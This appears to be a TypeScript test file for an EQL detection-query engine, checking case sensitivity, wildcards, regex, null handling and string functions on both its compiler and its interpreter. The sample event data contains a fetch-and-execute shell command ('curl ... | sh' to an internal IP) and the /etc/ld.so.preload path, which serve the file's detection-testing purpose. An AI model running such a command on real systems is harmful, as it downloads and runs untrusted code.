// Operator and function semantics, each checked on the compiled matcher and the interpreter.
import { describe, expect, it } from 'vitest';
import { compilePred, evaluate, parseEqlExpression } from './index.js';
import { truthy } from './interpret.js';

const doc = {
  process: {
    name: 'bash',
    pid: 100,
    args: ['bash', '-c', 'curl http://10.0.0.1/x | sh'],
    interactive: true,
    parent: { name: 'Nginx' },
  },
  'file.path': '/etc/ld.so.preload',
  source: { ip: '10.1.2.3' },
  kubernetes: { audit: { user: { extra: { 'authentication.kubernetes.io/pod-name': ['web-0'] } } } },
  empty: [],
  nul: null,
};

function m(src: string, d: unknown = doc): boolean {
  const e = parseEqlExpression(src);
  const compiled = compilePred(e)(d);
  const interpreted = truthy(evaluate(e, d));
  expect(compiled, `compiled vs interpreted: ${src}`).toBe(interpreted);
  return compiled;
}

const val = (src: string, d: unknown = doc): unknown => evaluate(parseEqlExpression(src), d);

describe('EQL semantics', () => {
  it('== is case-sensitive and exact; : is case-insensitive with wildcards', () => {
    expect(m('process.name == "bash"')).toBe(true);
    expect(m('process.name == "BASH"')).toBe(false);
    expect(m('process.name == "ba*"')).toBe(false);
    expect(m('process.name : "BASH"')).toBe(true);
    expect(m('process.name : "B*"')).toBe(true);
    expect(m('process.name : "b?sh"')).toBe(true);
    expect(m('process.name : "b?"')).toBe(false);
    expect(m('process.name : ("zsh", "BA*")')).toBe(true);
    expect(m('process.pid : 100')).toBe(true);
  });

  it('like is case-sensitive, like~ is not; ? is exactly one character; \\ escapes', () => {
    expect(m('process.parent.name like "nginx"')).toBe(false);
    expect(m('process.parent.name like~ "nginx"')).toBe(true);
    expect(m('process.parent.name like "N?inx"')).toBe(true);
    expect(m('process.parent.name like "N??inx"')).toBe(false);
    expect(m('process.args like "*| sh"')).toBe(true);
    expect(m('x like "a\\\\*"', { x: 'a*' })).toBe(true);
    expect(m('x like "a\\\\*"', { x: 'ab' })).toBe(false);
    expect(m('x like "?*"', { x: '' })).toBe(false);
    expect(m('x like "*"', { x: '' })).toBe(true);
  });

  it('in is exact and case-sensitive; in~ is not; not in negates', () => {
    expect(m('process.name in ("sh", "bash")')).toBe(true);
    expect(m('process.name in ("BASH")')).toBe(false);
    expect(m('process.name in~ ("BASH")')).toBe(true);
    expect(m('process.name in ("ba*")')).toBe(false);
    expect(m('process.name not in ("sh")')).toBe(true);
    expect(m('process.pid in (1, 100)')).toBe(true);
    expect(m('process.pid in ("100")')).toBe(false);
  });

  it('multi-valued fields match if any element matches', () => {
    expect(m('process.args == "-c"')).toBe(true);
    expect(m('process.args != "-c"')).toBe(false);
    expect(m('process.args : "*CURL*"')).toBe(true);
    expect(m('process.args in ("-c", "x")')).toBe(true);
    expect(m('not process.args in ("-c")')).toBe(false);
    expect(m('process.args > "c"')).toBe(true);
    expect(m('process.args == "-c" and process.args == "bash"')).toBe(true);
  });

  it('missing fields and null', () => {
    expect(m('nope == "x"')).toBe(false);
    expect(m('nope != "x"')).toBe(true);
    expect(m('nope == null')).toBe(true);
    expect(m('?nope == null')).toBe(true);
    expect(m('process.name != null')).toBe(true);
    expect(m('empty == null and nul == null')).toBe(true);
    expect(m('nope : "*"')).toBe(false);
    expect(m('nope like "*"')).toBe(false);
    expect(m('nope in ("a")')).toBe(false);
    expect(m('not nope in ("a")')).toBe(true);
    expect(m('nope < 5 or nope >= 5')).toBe(false);
    expect(m('process.pid == nope')).toBe(false);
  });

  it('fields resolve through nested objects, dotted keys and backticks', () => {
    expect(m('file.path == "/etc/ld.so.preload"')).toBe(true);
    expect(m('`kubernetes.audit.user.extra.authentication.kubernetes.io/pod-name` == "web-0"')).toBe(true);
    expect(m('a.b == 1', { a: [{ b: 2 }, { b: 1 }] })).toBe(true);
    expect(m('a.b.c == 1', { 'a.b': { c: 1 } })).toBe(true);
  });

  it('regex is Lucene, whole-string, with ~ for case-insensitive', () => {
    expect(m('process.name regex "ba"')).toBe(false);
    expect(m('process.name regex "ba.*"')).toBe(true);
    expect(m('process.name regex "BA.*"')).toBe(false);
    expect(m('process.name regex~ "BA.*"')).toBe(true);
    expect(m('process.name regex "^bash$"')).toBe(false);
    expect(m('x regex "^a$"', { x: '^a$' })).toBe(true);
    expect(m('x regex "a{2,3}"', { x: 'aaa' })).toBe(true);
    expect(m('x regex "[^0-9]+"', { x: 'abc' })).toBe(true);
    expect(m('x regex "\\\\d+"', { x: '123' })).toBe(true);
    expect(m('x regex "a@"', { x: 'anything' })).toBe(true);
    expect(m('x regex "<1-20>"', { x: '17' })).toBe(true);
    expect(m('x regex "<1-20>"', { x: '21' })).toBe(false);
    expect(m('x regex """.*"quoted"."""', { x: 'a quoted!' })).toBe(true);
    expect(m('process.args regex """.*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}.*"""')).toBe(true);
    expect(m('x regex "a.b"', { x: 'a\nb' })).toBe(true);
  });

  it('compares numbers and strings within their types', () => {
    expect(m('process.pid > 99 and process.pid <= 100')).toBe(true);
    expect(m('process.pid > "99"')).toBe(false);
    expect(m('process.name < "c"')).toBe(true);
    expect(m('process.interactive == true')).toBe(true);
    expect(m('process.interactive == "true"')).toBe(false);
    expect(
      m(
        'process.pid + 1 == 101 and process.pid * 2 == 200 and process.pid % 7 == 2 and -process.pid == -100',
      ),
    ).toBe(true);
  });

  it('string functions, with null in giving null out', () => {
    expect(
      m(
        'startsWith(process.name, "ba") and not startsWith(process.name, "BA") and startsWith~(process.name, "BA")',
      ),
    ).toBe(true);
    expect(m('endsWith~(process.parent.name, "INX") and stringContains(process.name, "as")')).toBe(true);
    expect(val('length(process.name)')).toBe(4);
    expect(val('substring("hello", 1, 3)')).toBe('el');
    expect(val('substring("hello", -3)')).toBe('llo');
    expect(val('between("a/b/c/d", "/", "/")')).toBe('b');
    expect(val('between("a/b/c/d", "/", "/", true)')).toBe('b/c');
    expect(val('between("abc", "x", "c")')).toBe('');
    expect(val('concat("a", 1, true)')).toBe('a1true');
    expect(val('concat("a", nope)')).toBe(null);
    expect(val('indexOf("hello", "l")')).toBe(2);
    expect(val('indexOf("hello", "l", 3)')).toBe(3);
    expect(val('indexOf("hello", "z")')).toBe(null);
    expect(val('indexOf~("HELLO", "l")')).toBe(2);
    expect(val('number("42")')).toBe(42);
    expect(val('number("ff", 16)')).toBe(255);
    expect(val('number("0x1F", 16)')).toBe(31);
    expect(val('number("nope")')).toBe(null);
    expect(val('string(42)')).toBe('42');
    expect(val('add(1, 2) + subtract(5, 3) + multiply(2, 3) + divide(7, 2) + modulo(7, 4)')).toBe(
      3 + 2 + 6 + 3 + 3,
    );
    expect(val('divide(7.0, 2)')).toBe(3);
    expect(val('divide(7.5, 2)')).toBe(3.75);
    expect(val('divide(1, 0)')).toBe(null);
    expect(val('length(nope)')).toBe(null);
    expect(m('length(nope) == null')).toBe(true);
    expect(m('cidrMatch(source.ip, "10.0.0.0/8", "192.168.0.0/16")')).toBe(true);
    expect(m('cidrMatch(source.ip, "10.2.0.0/16")')).toBe(false);
    expect(m('cidrMatch(x, "fd00::/8")', { x: 'fd12::1' })).toBe(true);
    expect(m('wildcard(process.name, "z*", "b*")')).toBe(true);
    expect(m('wildcard~(process.name, "B*")')).toBe(true);
    expect(m('wildcard(process.name, "B*")')).toBe(false);
  });

  it('maps functions over multi-valued first arguments', () => {
    expect(val('length(process.args)')).toEqual([4, 2, 27]);
    expect(m('length(process.args) == 2')).toBe(true);
    expect(m('startsWith(process.args, "curl")')).toBe(true);
  });
});
